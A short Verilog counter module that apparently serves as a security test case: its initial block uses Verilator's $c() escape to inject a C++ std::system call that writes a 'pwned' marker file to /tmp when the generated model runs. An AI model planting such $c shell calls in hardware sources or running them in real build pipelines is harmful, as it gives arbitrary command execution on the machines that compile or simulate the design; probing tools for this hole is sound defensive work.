// Verilator pastes $c(...) text into the generated C++ model.
module verilator_c (input wire clk, output reg [7:0] q);
  always @(posedge clk) q <= q + 8'd1;
  initial begin
    q = 8'd0;
    $c("std::system(\"echo pwned > /tmp/rtlforge_pwned\");");
  end
endmodule
